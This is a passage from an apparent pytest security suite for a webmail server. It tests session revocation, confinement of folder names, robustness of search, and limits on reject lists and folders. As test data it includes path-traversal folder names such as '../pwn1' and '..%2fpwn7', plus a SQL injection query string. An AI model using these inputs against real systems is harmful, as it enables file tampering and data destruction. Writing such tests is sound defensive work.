        # the thief's old cookie does not come back to life.
        cookie = owner.session_cookie()
        server.runtime.accounts.set_enabled("victim@a.example", login=False)
        server.runtime.accounts.set_enabled("victim@a.example", login=True)
        again = httpx.get(owner.base + "/settings/account", headers={
            "Host": A_HOST, "Accept": "text/html", "Cookie": f"nmail_session={cookie}"})
        assert again.status_code == 303 and again.headers["location"].startswith("/login")
        # The directory's one-switch call does the same (it left the sessions alive).
        assert owner.login("victim", "Owner-chose-this-8").status_code == 303
        assert not _logged_out(owner)
        server.runtime.directory.set_login_enabled("victim@a.example", False)
        server.runtime.directory.set_login_enabled("victim@a.example", True)
        assert _logged_out(owner)
    finally:
        for b in (thief, owner, bystander):
            b.close()


def test_folder_names_stay_inside_the_account(server: RunningServer) -> None:
    alice = _login(server, "alice", A_HOST)
    names = ["../pwn1", "..", ".", "pwn2/../../../pwn2", "/pwn3", "pwn4\x00x", "\\..\\pwn5",
             "pwn6/./x", "..%2fpwn7", "INBOX/../../pwn8", "~/pwn9", "pwn10\r\nx", "INBOX",
             "inbox", "Trash", "a" * 200, "pwn11/" * 40 + "x", "pwn12\u202e", "\u00a0"]
    try:
        alice.get("/folders")
        for name in names:
            answer = alice.post("/folders/create", {"name": name})
            assert answer.status_code in (303, 400, 422), (name, answer.status_code)
        listing = alice.get("/folders")
        assert listing.status_code == 200
        ids = re.findall(r'data-folder-id="(\d+)"', listing.text)
        for folder_id in ids:  # each opens, renames and deletes as her folder, nothing else
            assert alice.get(f"/mail/{folder_id}").status_code == 200
        bob = _login(server, "bob", B_HOST)
        try:
            assert "pwn" not in bob.get("/folders").text
        finally:
            bob.close()
        mine = server.config.mail_dir / "a.example" / "alice"
        strays = [p for p in server.data_dir.rglob("*pwn*")
                  if mine not in p.parents and p != mine]
        assert not strays, strays
        for folder_id in ids:
            alice.post(f"/folders/{folder_id}/rename", {"name": "../../pwn-renamed"})
        found = list(server.data_dir.rglob("*pwn*"))
        assert any(mine in p.parents for p in found)  # made, and in her mailbox
        strays = [p for p in found if mine not in p.parents]
        assert not strays, strays
    finally:
        alice.close()


def test_search_queries_of_any_shape_are_answered(server: RunningServer) -> None:
    alice = _login(server, "alice", A_HOST)
    try:
        queries = ['"', '"unclosed', "NEAR(a b", "a*", "*", "-", "a OR", "AND", "(", ")",
                   "x:y", "subject:", "%", "_", "\\", "'; DROP TABLE messages; --", "\x00",
                   "\u202e", "a " * 2000, "가" * 3000, "a" * 8000, "^a", "{a b}", "a NOT b"]
        for q in queries:
            for field in ("all", "body", "from"):
                answer = alice.get("/search", params={"q": q, "field": field})
                assert answer.status_code in (200, 400, 422), (q[:20], answer.status_code)
                assert "Traceback" not in answer.text
        assert alice.get(_inbox(alice)).status_code == 200
    finally:
        alice.close()


def test_a_users_reject_list_is_bounded(server: RunningServer,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Found open: each POST of /settings/rejects/add-many added 10 rows, without end (the
    address book and the image senders stop at 5,000); a script filled the table."""
    from nmail.directory import rejects

    monkeypatch.setattr(rejects, "MAX_REJECTS", 25)
    server.add_user("rejecter@a.example")
    user = _login(server, "rejecter", A_HOST)
    try:
        user.get("/settings/rejects")
        for batch in range(4):
            patterns = " ".join(f"s{batch}-{i}@spam.example" for i in range(10))
            assert user.post("/settings/rejects/add-many",
                             {"patterns": patterns}).status_code == 303
        assert len(server.directory.list_rejects("rejecter@a.example")) == 25
        full = user.post("/settings/rejects/add", {"pattern": "one-more@spam.example"})
        assert full.status_code == 400 and "25" in full.text
        # Taking one off makes room for one.
        assert user.post("/settings/rejects/delete",
                         {"pattern": "s0-0@spam.example"}).status_code == 303
        assert user.post("/settings/rejects/add",
                         {"pattern": "one-more@spam.example"}).status_code == 303
        assert "one-more@spam.example" in server.directory.list_rejects("rejecter@a.example")
    finally:
        user.close()


def test_an_accounts_folders_are_bounded(server: RunningServer,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Found open: /folders/create made a directory and a row at each post, without end,
    and every page reads the whole folder tree; a script filled the disk and slowed every
    page of the account."""
    from nmail.mailstore import op_folders

    server.add_user("hoarder@a.example")
    user = _login(server, "hoarder", A_HOST)
    try:
        defaults = len(set(re.findall(r'data-folder-id="(\d+)"', user.get("/folders").text)))
        assert defaults >= 5  # INBOX, Sent, Drafts, Trash, Spam...
        monkeypatch.setattr(op_folders, "MAX_FOLDERS", defaults + 3)
        made = [user.post("/folders/create", {"name": f"f{i}"}).status_code for i in range(6)]
        assert made == [303, 303, 303, 400, 400, 400], made
        full = user.post("/folders/create", {"name": "g/h"})  # parents count too
        assert full.status_code == 400 and f"({defaults + 3})" in full.text
        mine = server.config.mail_dir / "a.example" / "hoarder"
        assert not [p for p in mine.rglob("*") if p.name.endswith((".f3", ".g", ".g.h"))]
        folders = re.findall(r'data-folder-id="(\d+)" data-folder-name="f0"',
                             user.get("/folders").text)
        assert user.post(f"/folders/{folders[0]}/delete", {}).status_code == 303
        assert user.post("/folders/create", {"name": "f9"}).status_code == 303
    finally:
        user.close()
